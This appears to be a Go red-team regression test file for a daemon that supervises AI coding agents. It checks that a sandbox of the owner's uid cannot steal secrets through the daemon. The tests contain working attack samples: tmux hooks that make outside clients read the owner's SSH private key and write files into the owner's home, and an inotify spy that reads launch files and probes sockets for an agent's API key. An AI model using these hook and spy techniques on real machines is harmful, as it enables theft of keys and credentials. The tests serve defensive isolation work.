//go:build redteam

package redteam

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// The attackers of rule 9 through what the daemon runs for a move: the
// tmux server it asks, and the launch directory the relaunch passes
// through. Each is a process of the owner's uid in a user and mount
// namespace of its own (the kernel refuses it the owner's home), sharing
// a directory with the owner.

// clientLong runs the 9harness client as uid within 30 s: a move that
// was not refused waits for its session.
func clientLong(uid int, sock string, args ...string) (string, error) {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin("9harness"), append([]string{"-s", sock}, args...)...)
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(uid), Gid: uint32(uid)}}
	cmd.Env = []string{"PATH=/usr/bin:/bin"}
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// canaryValue is a fresh secret-looking value.
func canaryValue(t *testing.T, prefix string) string {
	b := make([]byte, 12)
	_, err := rand.Read(b)
	must(t, err)
	return prefix + hex.EncodeToString(b)
}

// sandboxTmux starts a tmux server on sock inside `unshare --user
// --mount --pid`, the owner's home hidden under a tmpfs, with hooks that,
// after each command a client of the daemon may send, have that client
// load-buffer canary and save-buffer a file written-CMD into home. The
// hooks act only for a tmux client in a cgroup named cg (the daemon's:
// whatever it runs, however wrapped) or with an ancestor (up to four up)
// whose command line names mark (the control's shell): other daemons on
// the machine see the agent too. The sandbox shares /proc (no
// --mount-proc) to look.
func sandboxTmux(t *testing.T, tm, sock, home, canary, cg, mark string) {
	t.Helper()
	unshare := require(t, "unshare")
	cdir := shortDir(t, "sbc")
	conf, mine := filepath.Join(cdir, "tmux.conf"), filepath.Join(cdir, "mine")
	must(t, os.WriteFile(mine, []byte(`for d in /proc/[0-9]*; do
	case "$(tr '\0' ' ' < $d/cmdline 2>/dev/null)" in *tmux*) ;; *) continue ;; esac
	grep -qF '`+cg+`' $d/cgroup 2>/dev/null && exit 0
	p=$d
	for i in 1 2 3 4; do
		p=/proc/$(sed -n 's/^PPid:[[:space:]]*//p' $p/status 2>/dev/null)
		grep -qF '`+mark+`' $p/cmdline 2>/dev/null && exit 0
	done
done
exit 1
`), 0o755))
	var b strings.Builder
	b.WriteString("set-buffer -b planted PLANTED-BY-THE-SANDBOX\n")
	for _, cmd := range []string{"list-panes", "list-sessions", "display-message", "has-session", "new-session", "list-windows"} {
		fmt.Fprintf(&b, "set-hook -g after-%s {\n  if-shell '/bin/sh %s' {\n    load-buffer -b stolen-%s %s\n    save-buffer -b planted %s\n  }\n}\n",
			cmd, mine, cmd, canary, filepath.Join(home, "written-"+cmd))
	}
	b.WriteString("new-session -d -s sbx 'sleep 600'\n")
	must(t, os.WriteFile(conf, []byte(b.String()), 0o644))
	// The server is the sandbox's pid 1: killing unshare (--kill-child)
	// ends the sandbox.
	cmd := exec.Command(unshare, "--user", "--map-root-user", "--mount", "--pid", "--fork", "--kill-child", "sh", "-c",
		"mount -t tmpfs none "+home+" && exec "+tm+" -D -S "+sock+" -f "+conf)
	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + home, "LANG=C.UTF-8", "SHELL=/bin/sh"}
	cmd.Stderr = os.Stderr
	must(t, cmd.Start())
	done := make(chan struct{})
	go func() { cmd.Wait(); close(done) }()
	t.Cleanup(func() { cmd.Process.Kill(); <-done })
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(50 * time.Millisecond) {
		if out, err := tmuxAt(tm, sock, "list-buffers", "-F", "#{buffer_name}"); err == nil && strings.Contains(out, "planted") {
			return
		} else if time.Now().After(deadline) {
			t.Fatalf("the sandbox's tmux server on %s: %v %s", sock, err, out)
		}
	}
}

// tmuxAt runs this test's own tmux client against sock, from /.
func tmuxAt(tm, sock string, args ...string) (string, error) {
	cmd := exec.Command(tm, append([]string{"-S", sock}, args...)...)
	cmd.Env, cmd.Dir = []string{"PATH=/usr/bin:/bin", "LANG=C.UTF-8"}, "/"
	out, err := cmd.CombinedOutput()
	return strings.TrimSpace(string(out)), err
}

// sandboxLoot is the content of the sandbox server's buffers but the one
// it planted.
func sandboxLoot(t *testing.T, tm, sock string) string {
	t.Helper()
	out, err := tmuxAt(tm, sock, "list-buffers", "-F", "#{buffer_name}")
	if err != nil {
		t.Fatalf("the sandbox's server: %v %s", err, out)
	}
	var loot []string
	for _, name := range strings.Fields(out) {
		if name != "planted" {
			content, _ := tmuxAt(tm, sock, "show-buffer", "-b", name)
			loot = append(loot, name+"="+content)
		}
	}
	return strings.Join(loot, "; ")
}

// written lists the files the sandbox's hooks wrote into home.
func written(t *testing.T, home string) []string {
	ents, err := os.ReadDir(home)
	must(t, err)
	var w []string
	for _, e := range ents {
		if strings.HasPrefix(e.Name(), "written-") {
			w = append(w, e.Name())
		}
	}
	return w
}

// TestRedteamTmuxEscape: a sandbox of the owner's uid (user+mount+pid
// namespaces, sharing the temporary directory) serves the owner's default
// tmux socket, the one the owner's agent names, with hooks that read the
// owner's ~/.ssh/id_ed25519 and write into the home. Before the fix the
// tmux clients the daemon ran outside the sandbox for the owner's
// `9harness ps` obeyed them, and `move --tmux` landed the agent, with its
// environment, inside the sandbox. The sandbox's buffers must hold no
// byte of the canary, no file be written, and the move be refused with
// the agent alive.
//
// Guards rule 9: nothing reaches the owner's files through a program the
// daemon runs, and no agent is moved into a sandbox.
func TestRedteamTmuxEscape(t *testing.T) {
	requireRoot(t)
	tm := require(t, "tmux")
	w := newWorld(t, 0)
	cwd := filepath.Join(w.home, "src", "x")
	must(t, os.MkdirAll(cwd, 0o755))
	canaryText := canaryValue(t, "CANARY-id_ed25519-")
	canary := filepath.Join(w.home, ".ssh", "id_ed25519")
	must(t, os.MkdirAll(filepath.Dir(canary), 0o700))
	must(t, os.WriteFile(canary, []byte(canaryText+"\n"), 0o600))
	tmuxDir := shortDir(t, "rt")
	sock := filepath.Join(tmuxDir, "tmux-0", "default")
	must(t, os.Mkdir(filepath.Dir(sock), 0o700))
	const name = "tmux escape"
	sandboxTmux(t, tm, sock, w.home, canary, cgroupLeaf(strings.ReplaceAll(name, " ", "-")), w.base)

	// The control: a tmux client outside the sandbox obeys its hooks.
	ctl := exec.Command("/bin/sh", "-c", `"$1" -S "$2" list-sessions; true`, w.base, tm, sock)
	ctl.Env, ctl.Dir = []string{"PATH=/usr/bin:/bin", "LANG=C.UTF-8"}, "/"
	if out, err := ctl.CombinedOutput(); err != nil {
		t.Fatalf("control: %v %s", err, out)
	}
	if loot := sandboxLoot(t, tm, sock); !strings.Contains(loot, canaryText) || len(written(t, w.home)) == 0 {
		t.Fatalf("control: the hooks did not make an outside client read the canary and write a file (loot %q): the attack proves nothing", loot)
	}
	tmuxAt(tm, sock, "delete-buffer", "-b", "stolen-list-sessions")
	os.Remove(filepath.Join(w.home, "written-list-sessions"))

	// The owner's agent, which ran in tmux on the default server.
	agent := startAgent(t, 0, cwd, []string{"HOME=" + w.home, "PATH=" + bins + ":/usr/bin:/bin", "TMUX_TMPDIR=" + tmuxDir,
		"TMUX=" + sock + ",1,0", "TMUX_PANE=%0", "FAKE_SESSION=1f2e3d4c-5b6a-4978-8a9b-0c1d2e3f4a5b",
		"ANTHROPIC_API_KEY=" + canaryValue(t, "sk-ant-"), "LANG=C.UTF-8"}, bin("claude"))
	r := startRig(t, name, 0, w, "--allow-move", "--host-path", bins+":/usr/bin:/bin")
	c := dialSelf(t, r)
	pid := strconv.Itoa(agent.Process.Pid)
	agentDir := waitAgent(t, r, c, "claude", agent.Process.Pid)
	stop := r.ownerLists(time.Second)
	out, _, err := clientAs(0, r.sock, "", "ps")
	if err != nil || !strings.Contains(out, pid) {
		t.Errorf("the owner's ps: %v %q", err, out)
	}
	tmx, _ := c.ReadFile(agentDir + "/tmux")
	mout, merr := clientLong(0, r.sock, "move", "claude/"+pid, "rescued", "--tmux")
	stop()
	alive := agent.ProcessState == nil && syscall.Kill(agent.Process.Pid, 0) == nil
	loot := sandboxLoot(t, tm, sock)
	files := written(t, w.home)
	sessions, _ := tmuxAt(tm, sock, "list-sessions", "-F", "#{session_name}")
	canaryBytes := strings.Count(loot, canaryText) * len(canaryText)
	// The client's exit: 0 done, 4 failed after the agent was stopped,
	// anything else refused before it was touched.
	outcome := "done"
	if ee, ok := merr.(*exec.ExitError); ok && ee.ExitCode() == 4 {
		outcome = "failed after the agent was stopped"
	} else if merr != nil {
		outcome = "refused"
	}
	r.note("ps, the tmux file and move --tmux: %d canary bytes in the sandbox server's buffers, %d files written outside it, move %s, agent alive: %v",
		canaryBytes, len(files), outcome, alive)
	t.Logf("the tmux file: %q; move: %v %s", tmx, merr, mout)
	if canaryBytes > 0 || loot != "" {
		t.Errorf("the sandbox's server got buffers through the daemon's tmux clients: %q", loot)
	}
	if len(files) > 0 {
		t.Errorf("files written outside the sandbox: %v", files)
	}
	if outcome != "refused" || !alive {
		t.Errorf("the move onto the sandbox's server was not refused (client: %v; agent alive: %v): %s", merr, alive, mout)
	}
	if strings.TrimSpace(sessions) != "sbx" {
		t.Errorf("the sandbox's server has sessions %q", sessions)
	}
	// (That list-sessions ran the hooks through this test's own client.)
	r.finish("a user+mount+pid sandbox of the owner's uid serves the default tmux socket with hooks: owner's ps, the tmux file, move --tmux")
}

// TestRedteamLaunchSpy: during a real move of an agent whose environment
// carries a canary API key, a process of the owner's uid in a user and
// mount namespace of its own, sharing the launch directory, watches it
// with inotify, reads every file that appears, connects to every socket
// that appears presenting every --exec-env handle it can read in an
// argv. Before the fix it read the environment file before the launcher
// unlinked it. It must get no byte of the canary, and the move complete.
//
// Guards rule 7 and rule 9: the environment of an agent reaches no file
// or socket another sandbox can open.
func TestRedteamLaunchSpy(t *testing.T) {
	requireRoot(t)
	tm := require(t, "tmux")
	unshare := require(t, "unshare")
	w := newWorld(t, 0)
	cwd := filepath.Join(w.home, "src", "x")
	must(t, os.MkdirAll(cwd, 0o755))
	rt := shortDir(t, "rt")
	dir := filepath.Join(rt, "9harness", "launch")
	must(t, os.MkdirAll(dir, 0o700))
	w.env = append(w.env, "XDG_RUNTIME_DIR="+rt)
	canary := canaryValue(t, "sk-ant-api03-")
	tmuxDir := shortDir(t, "rt")
	record := filepath.Join(t.TempDir(), "record.jsonl") // each start of the fake agent, with its environment
	agent := startAgent(t, 0, cwd, []string{"HOME=" + w.home, "PATH=" + bins + ":/usr/bin:/bin", "TMUX_TMPDIR=" + tmuxDir,
		"FAKE_SESSION=1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d", "ANTHROPIC_API_KEY=" + canary, "LANG=C.UTF-8", "FAKE_RECORD=" + record}, bin("claude"))
	r := startRig(t, "launch spool spy", 0, w, "--allow-move", "--host-path", bins+":/usr/bin:/bin")
	t.Cleanup(func() {
		// The server of this test's private directory, where the move put
		// the agent (before the cgroup goes: the daemon started it).
		exec.Command(tm, "-S", filepath.Join(tmuxDir, "tmux-0", "default"), "kill-server").Run()
	})
	c := dialSelf(t, r)
	agentDir := waitAgent(t, r, c, "claude", agent.Process.Pid)

	spy := helper("TestHelperSpy", []string{unshare, "--user", "--map-root-user", "--mount", "--propagation", "private", "--"},
		"HELPER_SPY="+dir, "HELPER_SPY_CANARY="+canary)
	var sout syncBuffer
	spy.Stdout, spy.Stderr = &sout, &sout
	stdin, err := spy.StdinPipe()
	must(t, err)
	must(t, spy.Start())
	spyDone := make(chan struct{})
	go func() { spy.Wait(); close(spyDone) }()
	t.Cleanup(func() { stdin.Close(); <-spyDone })
	for deadline := time.Now().Add(10 * time.Second); !strings.Contains(sout.String(), "watching"); time.Sleep(20 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("the spy's watch: %s", sout.String())
		}
	}

	stop := r.ownerLists(time.Second)
	merr := c.WriteFile(agentDir+"/tmux", []byte("spied"))
	time.Sleep(500 * time.Millisecond) // what the spy still holds, read
	stop()
	stdin.Close()
	select {
	case <-spyDone:
	case <-time.After(10 * time.Second):
		spy.Process.Kill()
		<-spyDone
	}
	got := map[string]int{}
	for _, line := range strings.Split(sout.String(), "\n") {
		var k string
		var n int
		if _, err := fmt.Sscanf(line, "count %s %d", &k, &n); err == nil {
			got[k] = n
		}
	}
	// The move gave the relaunched agent its environment back.
	b, _ := os.ReadFile(record)
	kept := strings.Count(string(b), `"ANTHROPIC_API_KEY=`+canary+`"`)
	r.note("%d entries seen, %d files read, %d sockets connected (%d with a handle), %d bytes got; %d canary bytes; move %s, the canary in %d of %d starts of the agent",
		got["entries"], got["files"], got["connects"], got["handles"], got["bytes"], got["canary"]*len(canary),
		map[bool]string{true: "done", false: fmt.Sprintf("failed (%v)", merr)}[merr == nil], kept, strings.Count(string(b), "\n"))
	if got["entries"] == 0 {
		t.Errorf("the spy saw nothing appear in %s: it proves nothing\n%s", dir, sout.String())
	}
	if got["canary"] > 0 {
		t.Errorf("the spy got the canary %d times", got["canary"])
	}
	if merr != nil {
		t.Errorf("the move: %v\n%s", merr, tail(r.log.String(), 2000))
	} else if kept != 2 {
		t.Errorf("the canary in %d starts of the agent, want 2 (the agent and its relaunch)", kept)
	}
	r.finish("a user+mount sandbox of the owner's uid watches the launch directory (inotify) during a move of an agent with a canary API key")
}

// TestHelperSpy, run by TestRedteamLaunchSpy inside unshare: watches
// HELPER_SPY with inotify, reads every regular file that appears,
// connects to every socket that appears (once with nothing, once with
// each --exec-env argument in any argv it can read), until standard input
// closes; then prints its counts, the canary's among them.
func TestHelperSpy(t *testing.T) {
	dir, canary := os.Getenv("HELPER_SPY"), []byte(os.Getenv("HELPER_SPY_CANARY"))
	if dir == "" {
		return
	}
	in, err := unix.InotifyInit1(unix.IN_CLOEXEC | unix.IN_NONBLOCK)
	if err == nil {
		_, err = unix.InotifyAddWatch(in, dir, unix.IN_CREATE|unix.IN_MOVED_TO|unix.IN_CLOSE_WRITE|unix.IN_MODIFY)
	}
	if err != nil {
		fmt.Println("SPY-ERR", err)
		return
	}
	fmt.Println("watching")
	done := make(chan struct{})
	go func() { io.Copy(io.Discard, os.Stdin); close(done) }()
	n, tried := map[string]int{}, map[string]bool{}
	got := func(b []byte) { n["bytes"] += len(b); n["canary"] += countCanary(b, canary) }
	look := func(name string) {
		p := filepath.Join(dir, name)
		var st unix.Stat_t
		if unix.Lstat(p, &st) != nil {
			return
		}
		n["entries"]++
		switch st.Mode & unix.S_IFMT {
		case unix.S_IFREG:
			if b, err := os.ReadFile(p); err == nil {
				n["files"]++
				got(b)
			}
		case unix.S_IFSOCK:
			for _, h := range append(execEnvArgs(), "") {
				if tried[name+"\x00"+h] {
					continue
				}
				tried[name+"\x00"+h] = true
				c, err := net.DialTimeout("unix", p, time.Second)
				if err != nil {
					continue
				}
				n["connects"]++
				if h != "" {
					n["handles"]++
					io.WriteString(c, h+"\n")
				}
				c.SetDeadline(time.Now().Add(2 * time.Second))
				b, _ := io.ReadAll(c)
				c.Close()
				got(b)
			}
		}
	}
	buf := make([]byte, 64<<10)
	for {
		select {
		case <-done:
			for _, k := range []string{"entries", "files", "connects", "handles", "bytes", "canary"} {
				fmt.Printf("count %s %d\n", k, n[k])
			}
			return
		default:
		}
		unix.Poll([]unix.PollFd{{Fd: int32(in), Events: unix.POLLIN}}, 5)
		m, _ := unix.Read(in, buf)
		for off := 0; m > 0 && off+unix.SizeofInotifyEvent <= m; {
			ev := (*unix.InotifyEvent)(unsafe.Pointer(&buf[off]))
			name := string(bytes.TrimRight(buf[off+unix.SizeofInotifyEvent:off+unix.SizeofInotifyEvent+int(ev.Len)], "\x00"))
			off += unix.SizeofInotifyEvent + int(ev.Len)
			if name != "" {
				look(name)
			}
		}
		// And a sweep, for what came and went between two reads.
		if ents, err := os.ReadDir(dir); err == nil {
			for _, e := range ents {
				look(e.Name())
			}
		}
	}
}

// execEnvArgs are the arguments after --exec-env in every argv this
// process can read, each alone and all joined.
func execEnvArgs() []string {
	var out []string
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		b, err := os.ReadFile("/proc/" + e.Name() + "/cmdline")
		if err != nil {
			continue
		}
		args := strings.Split(strings.TrimRight(string(b), "\x00"), "\x00")
		for i, a := range args {
			if a == "--exec-env" && i+1 < len(args) {
				out = append(append(out, args[i+1:]...), strings.Join(args[i+1:], " "))
			}
		}
	}
	return out
}

// countCanary counts canary in b, and in every string of b read as JSON
// (or JSON lines) and in the base64 decoding of each: whatever encoding a
// file or a reply used, the value inside is counted.
func countCanary(b, canary []byte) int {
	n := bytes.Count(b, canary)
	var walk func(v any)
	walk = func(v any) {
		switch v := v.(type) {
		case string:
			n += strings.Count(v, string(canary))
			if d, err := base64.StdEncoding.DecodeString(v); err == nil {
				n += bytes.Count(d, canary)
			}
		case []any:
			for _, e := range v {
				walk(e)
			}
		case map[string]any:
			for _, e := range v {
				walk(e)
			}
		}
	}
	for dec := json.NewDecoder(bytes.NewReader(b)); ; {
		var v any
		if dec.Decode(&v) != nil {
			return n
		}
		walk(v)
	}
}
